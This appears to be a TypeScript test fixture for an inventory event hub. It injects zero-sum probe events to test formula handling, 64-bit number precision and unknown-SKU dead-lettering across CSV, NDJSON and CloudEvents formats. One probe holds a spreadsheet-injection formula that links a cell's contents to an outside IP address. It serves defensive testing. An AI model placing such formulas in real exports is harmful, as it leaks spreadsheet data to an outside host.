// Faults that bring events of their own, on items that nobody sells: what would go unnoticed among the stream's own
// can be judged here to the unit. What they move adds up to nothing.

import type { EventBody, HubEvent } from '../hub-calls.ts';
import type { LocationCode } from '../network.ts';
import type { Fault } from './fault-log.ts';
import type { WordingFormat } from './wording.ts';

export interface ProbeFault extends Fault {
  readonly formats: readonly WordingFormat[];
  /** Whether its item is made known only after it was told of. */
  readonly isUnknown: boolean;
  readonly bodies: readonly Pick<EventBody, 'quantity' | 'reason'>[];
}

export const probeEnds = {
  kept: 'kept as it was written',
  byFilter: 'dead letters (unknown_sku), redriven by filter',
} as const;

const formula = '=HYPERLINK("http://198.51.100.7/?"&A1,"; click")';

/** 2^53 + 1: no double is it, so that it becomes another number wherever it becomes a double. */
const beyondDoubles = { text: '9007199254740993', below: 9_007_199_254_740_991 };

/** Stands for a number that no double is; it is put into the text of the record. */
export function exactly(record: string): string {
  return record.replace(/(?<=[:;])4503599627370497(?=[,;}])/, beyondDoubles.text);
}

export const probeFaults: readonly ProbeFault[] = [
  {
    code: 'F59',
    name: 'a formula in a cell, and a number below zero',
    formats: ['csv', 'ndjson', 'cloudevents'],
    isUnknown: false,
    expects: [probeEnds.kept],
    bodies: [
      { quantity: 3, reason: formula },
      { quantity: -3, reason: formula },
    ],
  },
  {
    code: 'F61',
    name: 'an integer of 64 bits as a number',
    formats: ['csv', 'ndjson', 'cloudevents'],
    isUnknown: false,
    expects: [probeEnds.kept],
    bodies: [
      { quantity: 4_503_599_627_370_497, reason: 'exact' },
      { quantity: -beyondDoubles.below, reason: 'exact' },
      { quantity: -2, reason: 'exact' },
    ],
  },
  {
    code: 'F63',
    name: 'an item that nobody made known yet',
    formats: ['csv', 'ndjson', 'cloudevents'],
    isUnknown: true,
    expects: [probeEnds.byFilter],
    bodies: [
      { quantity: 5, reason: 'early' },
      { quantity: -2, reason: 'early' },
      { quantity: -3, reason: 'early' },
    ],
  },
];

export interface Probe {
  readonly source: string;
  readonly location: LocationCode;
  readonly sku: string;
  readonly at: number;
  /** Tells it apart from the others of this run and of earlier ones. */
  readonly name: string;
}

export function probeEvents(fault: ProbeFault, { source, location, sku, at, name }: Probe): HubEvent[] {
  return fault.bodies.map((body, index) => ({
    id: `${name}-${index}`,
    source,
    kind: 'adjustment',
    at,
    body: { sku, location, ...body },
  }));
}
